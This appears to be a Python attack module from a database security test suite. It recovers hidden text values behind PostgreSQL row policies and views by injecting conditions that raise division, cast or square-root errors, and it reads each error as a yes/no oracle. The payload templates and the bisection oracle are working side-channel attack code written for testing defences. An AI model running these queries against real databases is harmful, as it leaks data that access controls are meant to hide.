"""Errors as an oracle: a condition that cannot be worked out for a row that nobody may see."""

from collections.abc import Callable
from itertools import product

import asyncpg

from tests.attacks.attack import Depth, Found, a_few, of_several
from tests.attacks.bisection import Oracle, hidden_texts, shown_values
from tests.attacks.explaining import plain
from tests.attacks.looking import Relation, of_each_kind, of_others, readable
from tests.attacks.target import Secrets, Target

_TEXTS = 2  # of each column and each way to fail
# As little work as can be: what is cheapest is asked first, before the condition of a view.
_RAISING = {
    "division": "1 / (case when {condition} then 0 else 1 end) is null",
    "cast": "(case when {condition} then 'x' else '1' end)::integer is null",
    "root": "sqrt(case when {condition} then -1 else 1 end) is null",
}


async def divisions_casts_and_roots(target: Target, depth: Depth) -> Found:
    """Knows nothing but names: asks every view for rows on which the condition fails to compute.

    An error then says that the row is there, before a policy or a view has left it out.
    """
    found: set[str] = set()
    async with target.attacker() as db:
        await plain(db)
        for relation in of_each_kind(await readable(db), depth.ways):
            for column, raising, where in product(
                relation.texts,
                list(_RAISING.values())[: depth.ways],
                of_others(relation, target.own),
            ):
                found |= await _texts(db, relation, column, raising, where, depth, target.secrets)
    return of_several(found & target.secrets.texts, len(target.secrets.texts))


async def _texts(
    db: asyncpg.Connection,
    relation: Relation,
    column: str,
    raising: str,
    where: str,
    depth: Depth,
    secrets: Secrets,
) -> set[str]:
    shown = await shown_values(db, relation, column, where)
    oracle = _by_error(db, relation.name, where, lambda asked: raising.format(condition=asked))
    few = a_few(depth, _TEXTS)
    texts = hidden_texts(oracle, column, shown, few, counted=secrets.texts)
    return {text async for text in texts}


def _by_error(
    db: asyncpg.Connection, relation: str, where: str, raising: Callable[[str], str]
) -> Oracle:
    async def oracle(condition: str, _: str) -> bool:
        try:
            await db.fetch(f"select 1 from {relation} where {where} and {raising(condition)}")
        except asyncpg.DataError:
            return True
        return False

    return oracle
